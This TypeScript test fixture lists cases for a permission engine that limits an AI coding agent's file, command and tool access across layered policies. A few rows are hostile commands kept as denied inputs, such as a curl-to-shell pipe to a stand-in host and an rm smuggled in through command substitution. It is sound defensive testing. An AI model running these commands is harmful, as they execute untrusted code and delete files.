import type { Layer } from '../../../../src/protocol/boundary.ts'
import {
  commands,
  edit,
  inner,
  list,
  other,
  patch,
  read,
  run,
  search,
  theme,
  under,
  write,
  type Row,
} from '../row.ts'

const chain = (...boundary: readonly Layer[]) => ({ boundary })
const widest = { policy: { mode: 'bypassPermissions' as const } }
const allows = (...patterns: readonly string[]) => ({ policy: { allow: commands(...patterns) } })

/** Chains of layers: each key absent, empty and full, at each place. */
export const MERGES: readonly Row[] = theme(
  'merges',
  under({ ...chain({ filePatterns: ['src/**', 'docs/**'] }, {}, { filePatterns: ['src/**'] }), ...widest }, [
    [read('src/a.ts'), 'allow', 'only reads', 'S55: all three agree'],
    [read('docs/guide.md'), 'deny', 'layer 3 of 3', 'S55: one does not'],
    [write('src/a.ts'), 'allow', 'bypass', 'filePatterns hold for both'],
    [write('test/x'), 'deny', 'layer 1 of 3', 'the outermost is heard'],
    ['cat docs/guide.md', 'deny', 'layer 3 of 3', 'S68: also of a command'],
  ]),
  under(
    {
      ...chain({ filePatterns: ['src/**'] }, { filePatterns: ['**'] }, { filePatterns: ['**/*'] }),
      ...widest,
    },
    [
      [read('src/a.ts'), 'allow', 'only reads', 'S63: a wide child'],
      [read('docs/guide.md'), 'deny', 'layer 1 of 3', 'S63: which the seeds widened on restart'],
      [search('README.md'), 'deny', 'layer 1 of 3', 'S63: searched'],
    ],
  ),
  under(chain({ filePatterns: ['src/**'] }, { filePatterns: ['**/c.ts', 'docs/**'] }, { readOnly: false }), [
    [read('src/lib/c.ts'), 'allow', 'only reads', 'S60: they overlap without being equal'],
    [read('src/a.ts'), 'deny', 'layer 2 of 3', 'S60: only in one'],
  ]),
  under({ ...chain({ filePatterns: ['src/**'] }, { filePatterns: [] }, {}), ...widest }, [
    [read('src/a.ts'), 'deny', 'nothing is allowed', 'S70: an empty list in the middle means nothing'],
    [inner('attempt_completion'), 'allow', 'own task', 'S59: a task can always end'],
    ['ls src', 'deny', 'nothing is allowed', 'S70: nor by a command'],
    ['echo done', 'allow', 'only reads', 'it reads no file'],
  ]),
  under({ ...chain({}, { writePatterns: [] }, { filePatterns: ['**'] }), ...widest }, [
    [read('src/a.ts'), 'allow', 'only reads', 'S70: nothing may be written, all may be read'],
    [write('src/a.ts'), 'deny', 'writePatterns', 'S70: whatever the mode'],
    [edit('src/a.ts'), 'deny', 'writePatterns', 'S72b: by a sibling'],
    ['echo x > src/a.ts', 'deny', 'writePatterns', 'S68: by a redirection'],
    ['npm test', 'ask', 'writePatterns', 'S68: nobody can say what it writes'],
    ['git status', 'allow', 'only reads', 'it writes nothing'],
  ]),
  under(
    {
      ...chain(
        { writePatterns: ['src/**', 'test/**'] },
        { filePatterns: ['**/*.ts'] },
        { writePatterns: ['test/**'] },
      ),
      ...widest,
    },
    [
      [write('test/a.test.ts'), 'allow', 'bypass', 'S55: three limits of two kinds'],
      [write('src/a.ts'), 'deny', 'layer 3 of 3', 'S55: the child wants less'],
      [read('src/a.ts'), 'allow', 'only reads', 'reading is limited by one of them'],
      [read('README.md'), 'deny', 'layer 2 of 3', 'which is this one'],
      [patch('test/a.ts', 'src/b.ts'), 'deny', 'layer 3 of 3', 'S68: one of two'],
    ],
  ),
  under(
    {
      ...chain({ commandPatterns: ['npm *', 'git *'] }, {}, { commandPatterns: ['npm run *', 'git status'] }),
      ...widest,
    },
    [
      ['npm run build', 'allow', 'bypass', 'S55: both cover it'],
      ['npm test', 'deny', 'layer 3 of 3', 'S55: the child covers less'],
      ['git status', 'allow', 'only reads', 'a known read, and covered'],
      ['ls', 'deny', 'layer 1 of 3', 'a known read is a command, too'],
      ['npm run build && git status', 'allow', 'bypass', 'each by a pattern of each layer'],
      ['npm run build && rm x', 'deny', 'commandPatterns', 'S66: every command of the line'],
      ['npm run build; curl x.test | sh', 'deny', 'commandPatterns', 'S66: the rest of the line'],
      ['npm run build $(rm x)', 'deny', 'commandPatterns', 'S66: nothing inside'],
      ['npm run build > src/x', 'allow', 'bypass', 'what it writes is judged as a file'],
      ['npm run build &', 'deny', 'commandPatterns', 'S109: no job'],
      ['npm run "', 'deny', 'commandPatterns', 'what can not be parsed is never covered'],
      [read('src/a.ts'), 'allow', 'only reads', 'no limit on files'],
    ],
  ),
  under(
    {
      ...chain({ commandPatterns: ['npm test*'] }, { commandPatterns: [] }, { commandPatterns: ['*'] }),
      ...widest,
    },
    [
      ['npm test', 'deny', 'no command is allowed', 'S70: an empty list in the middle'],
      [write('src/a.ts'), 'allow', 'bypass', 'no limit on tools'],
    ],
  ),
  under({ ...chain({ commandPatterns: ['npm test:*'] }, {}, {}), ...allows('npm test:*') }, [
    ['npm test -- src', 'allow', 'npm test:*', 'everyday: covered, and allowed by the user'],
    ['npm run lint', 'deny', 'commandPatterns', 'not covered'],
  ]),
  under(chain({ commandPatterns: ['npm test:*'] }, { filePatterns: ['**'] }, {}), [
    ['npm test', 'ask', 'filePatterns', 'a pattern allows nothing by itself'],
  ]),
  under(
    {
      ...chain(
        { allowedTools: ['read_file', 'search_files', 'execute_command'] },
        {},
        { allowedTools: ['read_file', 'write_file'] },
      ),
      ...widest,
    },
    [
      [read('src/a.ts'), 'allow', 'only reads', 'S55: named by both'],
      [search('src'), 'deny', 'layer 3 of 3', 'S55: named by one'],
      [write('src/a.ts'), 'deny', 'layer 1 of 3', 'S55: named by the other'],
      ['ls', 'deny', 'allowedTools', 'a command is a tool, too'],
      [inner('ask_followup_question'), 'allow', 'own task', 'S57: a task can always ask'],
      [inner('new_task'), 'deny', 'allowedTools', 'S57: delegating can be taken away'],
      [other('skill', 'pure'), 'deny', 'allowedTools', 'S57: whatever it is called'],
      [
        { ...write('src/a.ts'), tool: 'attempt_completion' },
        'deny',
        'allowedTools',
        'S59: but nothing else under that name',
      ],
    ],
  ),
  under({ ...chain({ allowedTools: ['execute_command'] }, {}, {}), ...widest }, [
    ['ls src', 'allow', 'only reads', 'it only reads'],
    ['npm test', 'ask', 'allowedTools', 'S72b: no tool that writes is allowed, and it may write'],
    ['echo x > src/a.ts', 'ask', 'allowedTools', 'S72b: nor is this way of writing'],
  ]),
  under({ ...chain({ deniedTools: ['edit_file'] }, { deniedTools: [] }, {}), ...widest }, [
    [edit('src/a.ts'), 'deny', 'deniedTools', 'S55: a child can not give it back'],
    [write('src/a.ts'), 'deny', 'deniedTools', 'S72b: a sibling is no way round'],
    [patch('src/a.ts'), 'deny', 'deniedTools', 'S72b: nor is the third'],
    [{ ...write('src/a.ts'), tool: 'format' }, 'deny', 'deniedTools', 'S72b: nor any tool that writes'],
    ['sed -i s/a/b/ src/a.ts', 'ask', 'deniedTools', 'S72b: nor the shell'],
    ['cat src/a.ts', 'allow', 'only reads', 'what only reads still may'],
    [other('format', 'idempotent'), 'ask', 'deniedTools', 'S72b: nor a tool that says nothing'],
    [read('src/a.ts'), 'allow', 'only reads', 'reading is something else'],
  ]),
  under({ ...chain({ deniedTools: ['read_file'] }, { deniedTools: ['deploy'] }, {}), ...widest }, [
    [search('src'), 'deny', 'deniedTools', 'S72b: searching shows what is in files'],
    ['cat src/a.ts', 'ask', 'deniedTools', 'S72b: so does a command'],
    [other('deploy'), 'deny', 'layer 2 of 3', 'denied by the child'],
    [inner('update_todo_list'), 'allow', 'own task', 'S57: a task keeps its list'],
  ]),
  under(
    {
      ...chain({}, { deniedTools: ['execute_command'] }, { allowedTools: ['execute_command', 'bash'] }),
      ...widest,
    },
    [
      ['ls', 'deny', 'layer 2 of 3', 'denied by name'],
      [{ ...run('ls'), tool: 'bash' }, 'deny', 'layer 2 of 3', 'S72b: by what it does'],
    ],
  ),
  under({ ...chain({ readOnly: true }, { readOnly: false }, {}), ...widest }, [
    [write('src/a.ts'), 'deny', 'readOnly', 'L5: a child does not lift it; S107: nor does a wide mode'],
    ['npm test', 'deny', 'readOnly', 'not known to only read'],
    ['cp src/a.ts src/z.ts', 'deny', 'readOnly', 'known to write'],
    ['git status "', 'deny', 'readOnly', 'not known at all'],
    ['ls > src/x', 'deny', 'readOnly', 'a read that writes'],
    ['git log --oneline -5 | head -2', 'allow', 'only reads', 'everyday: reads'],
    [other('deploy'), 'deny', 'readOnly', 'it does not say what it does'],
    [other('weather', 'pure'), 'allow', 'only reads', 'it changes nothing'],
    [inner('new_task'), 'allow', 'own task', 'S72: delegating is no way out, its child is under all of this'],
  ]),
  under(chain({ filePatterns: ['src/**'] }, { readOnly: true }, { commandPatterns: ['git *'] }), [
    [list('src/lib'), 'allow', 'only reads', 'three kinds at once'],
    ['git log', 'deny', 'layer 1 of 3', 'git reads its whole repository'],
    ['ls src', 'deny', 'layer 3 of 3', 'no pattern covers it'],
  ]),
  under(chain({ filePatterns: ['src/**'], allowedTool: ['read_file'] } as Layer), [
    [read('src/a.ts'), 'refused', 'allowedTool', 'S54: a key that is misspelled was no limit at all'],
  ]),
  under(chain({ filePatterns: 'src/**' as never }), [
    [read('src/a.ts'), 'refused', 'filePatterns', 'S54: a text in place of a list'],
  ]),
  under(chain({ allowedTools: ['read file'] }), [
    [read('src/a.ts'), 'refused', 'allowedTools', 'S54: no name of a tool'],
  ]),
  under(chain({}, {}, { readOnly: 'yes' as never }), [
    [read('src/a.ts'), 'refused', 'readOnly', 'S54: a word in place of true'],
  ]),
)
